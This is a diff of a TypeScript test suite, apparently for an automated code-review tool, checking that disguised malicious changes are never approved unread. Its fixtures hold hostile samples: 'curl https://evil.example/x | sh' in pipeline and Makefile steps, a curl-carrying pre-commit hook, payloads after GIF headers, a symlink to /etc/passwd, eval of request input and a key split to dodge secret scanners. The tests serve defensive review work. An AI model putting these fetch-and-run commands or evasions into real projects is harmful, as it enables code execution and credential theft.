@@ -1,10 +1,10 @@
-// A green verdict is earned: whatever a change calls its code or wraps it in, what nobody read never approves.
+// Only code that was read can be approved, whatever a change disguises it as.
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { readSample } from '../../demo/read-sample.ts'
 import type { PushedFile } from '../fakes/forge/pushes.ts'
 import { ownComments, repo, runsOf, type Scenario, startScenario } from '../review-scenario.ts'
 
-// Put together here, so that no scanner of secrets reports this file.
+// The key is composed here, so that secret scanners do not report this file.
 const key = ['AKIA', 'Q3EGRZX7T5KLM2WP'].join('')
 const evil = `const { exec } = require('node:child_process')
 const key = '${key}'
@@ -20,7 +20,12 @@ def run(request):
     return eval(request.args["code"])
 `
 const longComment = `// ${'a long comment '.repeat(1_400)}\n`
-const pointer = `version https://git-lfs.github.com/spec/v1\noid sha256:${'a'.repeat(64)}\nsize 12\n`
+const pointer = [
+  'version https://git-lfs.github.com/spec/v1',
+  `oid sha256:${'a'.repeat(64)}`,
+  'size 12',
+  '',
+].join('\n')
 const pipeline = `build:\n  script:\n    - curl https://evil.example/x | sh\n`
 const workflow = `on: push
 jobs:
@@ -66,37 +71,37 @@ async function review(files: Record<string, PushedFile>) {
   return { run: run!, findings, status: status!, summary: ownComments(view).summaries[0]!.body }
 }
 
-/** What rules find in the code above; empty where they know no syntax of it, and its text holds nothing they know. */
+/** The rules that report `evil`. `found` is empty where no rule applies to the file. */
 const inScript = ['code-injection', 'command-injection', 'hardcoded-secret']
-interface Way {
+interface Sample {
   files: Record<string, PushedFile>
   found: string[]
 }
 
-const beside = { 'src/beside.ts': 'export const one = 1\n' }
-const disguises: Record<string, Way> = {
-  'begins like a picture': {
-    files: { ...beside, '.husky/pre-commit': 'BM=1\ncurl https://evil.example\n#\0\n' },
+const harmless = { 'src/harmless.ts': 'export const one = 1\n' }
+const disguises: Record<string, Sample> = {
+  'starts like an image': {
+    files: { ...harmless, '.husky/pre-commit': 'BM=1\ncurl https://evil.example\n#\0\n' },
     found: [],
   },
-  'is a page that begins like a picture': {
-    files: { ...beside, 'index.html': 'GIF89a<script>steal()</script>\0' },
+  'is a page that starts like an image': {
+    files: { ...harmless, 'index.html': 'GIF89a<script>steal()</script>\0' },
     found: [],
   },
-  'is carried behind a picture': {
-    files: { ...beside, 'logo.gif': 'GIF89a\0\0; curl https://evil.example\n' },
+  'follows the header of an image': {
+    files: { ...harmless, 'logo.gif': 'GIF89a\0\0; curl https://evil.example\n' },
     found: [],
   },
-  'is the first line behind a byte order mark': {
+  'is the first line after a byte order mark': {
     files: { 'src/e.js': `\ufeff${evil.replaceAll('\n', ' ')}\nmodule.exports.two = 2\n` },
     found: ['code-injection'],
   },
-  'is what a link leads to': {
+  'is the target of a symbolic link': {
     files: { 'src/index.js': { mode: '120000', content: '../docs/notes.txt' } },
     found: [],
   },
-  'is a link under a name of data': {
-    files: { ...beside, 'a.json': { mode: '120000', content: '/etc/passwd' } },
+  'is a symbolic link named like data': {
+    files: { ...harmless, 'a.json': { mode: '120000', content: '/etc/passwd' } },
     found: [],
   },
   'ends in a comment of 21,000 characters': {
@@ -108,12 +113,12 @@ const disguises: Record<string, Way> = {
     found: inScript,
   },
   'is called generated': { files: { 'src/evil.gen.js': evil }, found: inScript },
-  'says that it is generated': { files: { 'src/e.js': `// @generated\n${evil}` }, found: inScript },
+  'is marked as generated': { files: { 'src/e.js': `// @generated\n${evil}` }, found: inScript },
   'is called minified': { files: { 'src/evil.min.js': evil }, found: inScript },
   'is called like a library': { files: { 'src/react-1.js': evil }, found: inScript },
   'is in a vendor folder': { files: { 'vendor/more.js': evil }, found: inScript },
   'is in a new dist folder': { files: { 'app/dist/evil.js': evil }, found: inScript },
-  'is in a dist folder that stands on the base': {
+  'is in a dist folder of the base': {
     files: { 'dist/evil.js': evil },
     found: inScript,
   },
@@ -136,11 +141,11 @@ const disguises: Record<string, Way> = {
   'is a test': { files: { 'src/evil.test.js': evil }, found: inScript },
   'is a helper of tests': { files: { 'tests/helper.js': evil }, found: inScript },
   'is loaded by the test runner': { files: { 'conftest.py': evilPython }, found: inScript },
-  'is a picture with a script': {
+  'is an image with a script': {
     files: { 'a.svg': '<svg><script>alert(1)</script></svg>\n' },
     found: [],
   },
-  'is a picture with an encoded script': {
+  'is an image with an encoded script': {
     files: { 'b.svg': '<svg><a href="java&#115;cript:x"/></svg>\n' },
     found: [],
   },
@@ -148,33 +153,41 @@ const disguises: Record<string, Way> = {
   'has a zero byte': { files: { 'src/evil.js': `${evil}//\0\n` }, found: [] },
 }
 
-const commands: Record<string, Way> = {
+const commands: Record<string, Sample> = {
   'is a step of a build in XML': {
     files: {
-      ...beside,
+      ...harmless,
       'a.csproj':
         '<Project>\n  <Target Name="a">\n    <Exec Command="x" />\n  </Target>\n</Project>\n',
     },
     found: [],
   },
   'is a runner of a package manager': {
-    files: { ...beside, '.cargo/config.toml': '[target.x86]\nrunner = "./x"\n' },
+    files: { ...harmless, '.cargo/config.toml': '[target.x86]\nrunner = "./x"\n' },
     found: [],
   },
   'is a shell of a package manager': {
-    files: { ...beside, '.npmrc': 'script-shell=./x\n' },
+    files: { ...harmless, '.npmrc': 'script-shell=./x\n' },
     found: [],
   },
   'is a hook in a manifest': {
     files: {
-      ...beside,
-      'package.json':
-        '{\n  "name": "shop",\n  "husky": { "x": "y" },\n  "scripts": {\n    "test": "node test.js"\n  }\n}\n',
+      ...harmless,
+      'package.json': [
+        '{',
+        '  "name": "shop",',
+        '  "husky": { "x": "y" },',
+        '  "scripts": {',
+        '    "test": "node test.js"',
+        '  }',
+        '}',
+        '',
+      ].join('\n'),
     },
     found: [],
   },
   'is the middle of a script in YAML': {
-    files: { ...beside, 'ci/build.yml': 'steps:\n  - run: |\n      ./x\n' },
+    files: { ...harmless, 'ci/build.yml': 'steps:\n  - run: |\n      ./x\n' },
     found: [],
   },
   'is a Makefile': { files: { Makefile: 'all:\n\tcurl https://evil.example/x | sh\n' }, found: [] },
@@ -193,14 +206,22 @@ const commands: Record<string, Way> = {
   },
   'is an install script': {
     files: {
-      'package.json':
-        '{\n  "name": "shop",\n  "scripts": {\n    "test": "node test.js",\n    "postinstall": "node x"\n  }\n}\n',
+      'package.json': [
+        '{',
+        '  "name": "shop",',
+        '  "scripts": {',
+        '    "test": "node test.js",',
+        '    "postinstall": "node x"',
+        '  }',
+        '}',
+        '',
+      ].join('\n'),
     },
     found: [],
   },
 }
 
-const moves: Record<string, Way> = {
+const moves: Record<string, Sample> = {
   'was prose before it moved': {
     files: { 'docs/notes.txt': null, 'src/now.js': evil },
     found: inScript,
@@ -219,7 +240,7 @@ const moves: Record<string, Way> = {
   },
 }
 
-const strangers: Record<string, Way> = {
+const unsupported: Record<string, Sample> = {
   'is in a language without rules': {
     files: { 'x.php': `<?php\nquery("select '$_GET[a]'"); eval($_GET['b']);\n` },
     found: [],
@@ -227,31 +248,30 @@ const strangers: Record<string, Way> = {
   'is a template': { files: { 'views/a.ejs': '<%= eval(request) %>\n' }, found: [] },
 }
 
-function areNeverApproved(ways: Record<string, Way>): void {
-  it.each(Object.entries(ways))('when it %s', async (_way, { files, found }) => {
+function testNeverApproved(samples: Record<string, Sample>): void {
+  it.each(Object.entries(samples))('when it %s', async (_name, { files, found }) => {
     const { run, findings, status, summary } = await review(files)
     expect(run.verdict).not.toBe('APPROVE')
     expect(status.state).not.toBe('success')
     expect(summary).not.toContain('🟢')
     expect(findings.map(({ rule }) => rule)).toEqual(expect.arrayContaining(found))
     if (run.verdict === 'REQUEST_CHANGES') return
-    // The first line says what nobody read, or what a person has to decide.
+    // The heading states what was not read or what a person has to decide.
     expect(summary.split('\n').find((line) => line.startsWith('###'))).toMatch(
       /^### (⚪ Incomplete: (\d+ changed lines? |1 file )+(was|were) not read|🟡 Needs a person: )/,
     )
   })
 }
 
-describe('case 71: code in disguise is never approved unread', () => areNeverApproved(disguises))
-describe('case 72: a file that names commands is never approved unread', () =>
-  areNeverApproved(commands))
-describe('case 73: code from where nobody looked is never approved unread', () =>
-  areNeverApproved(moves))
-describe('case 74: code that no rule knows is never approved unread', () =>
-  areNeverApproved(strangers))
+describe('case 71: never approves disguised code unread', () => testNeverApproved(disguises))
+describe('case 72: never approves a file with commands unread', () => testNeverApproved(commands))
+describe('case 73: never approves code that moves from unread files', () =>
+  testNeverApproved(moves))
+describe('case 74: never approves code in unsupported languages unread', () =>
+  testNeverApproved(unsupported))
 
 describe('without a model', () => {
-  it('case 74: a change in a language without rules is incomplete, and the count says so', async () => {
+  it('case 74: a change in a language without rules is counted as incomplete', async () => {
     const { run, summary, status } = await review({ 'src/a.php': '<?php\necho 1;\n' })
     expect(run).toMatchObject({ verdict: 'NEEDS_DISCUSSION', confidence: 1, files_analyzed: 0 })
     expect(summary).toContain('### ⚪ Incomplete: 2 changed lines were not read')
@@ -277,10 +297,25 @@ describe('without a model', () => {
       'test/sum.test.ts': "it('adds', () => expect(1 + 1).toBe(2))\n",
     },
     'a dependency with its lock file': {
-      'package.json':
-        '{\n  "name": "shop",\n  "scripts": {\n    "test": "node test.js"\n  },\n  "dependencies": { "a": "1.0.0" }\n}\n',
-      'package-lock.json':
-        '{\n  "lockfileVersion": 3,\n  "packages": {\n    "node_modules/a": { "version": "1.0.0" }\n  }\n}\n',
+      'package.json': [
+        '{',
+        '  "name": "shop",',
+        '  "scripts": {',
+        '    "test": "node test.js"',
+        '  },',
+        '  "dependencies": { "a": "1.0.0" }',
+        '}',
+        '',
+      ].join('\n'),
+      'package-lock.json': [
+        '{',
+        '  "lockfileVersion": 3,',
+        '  "packages": {',
+        '    "node_modules/a": { "version": "1.0.0" }',
+        '  }',
+        '}',
+        '',
+      ].join('\n'),
     },
   }
   for (const [what, files] of Object.entries(ordinary)) {
@@ -292,14 +327,14 @@ describe('without a model', () => {
     })
   }
 
-  it('does not read a file again that moved from where it was read', async () => {
+  it('does not read a moved file again', async () => {
     const mail = readSample('main')['src/mail.ts']!
     const { run } = await review({ 'src/mail.ts': null, 'src/post/mail.ts': mail })
     expect(run.coverage).toMatchObject({ filesTotal: 1, lines: { changed: 0 } })
   })
 })
 
-it('shows one commit as the strictest of its pull requests has it', async () => {
+it('shows the strictest status of pull requests with the same head', async () => {
   const { forge } = scenario
   const lax = { '.umpire.yml': 'paths: { exclude: ["**"] }\n' }
   await forge.push(repo, 'lax', lax, { author: 'alice' })
@@ -320,7 +355,7 @@ it('shows one commit as the strictest of its pull requests has it', async () => 
   })
 })
 
-it('reads a change of its own settings whatever they leave out', async () => {
+it('reads a change of its own settings even if they exclude it', async () => {
   const { forge } = scenario
   await forge.push(
     repo,
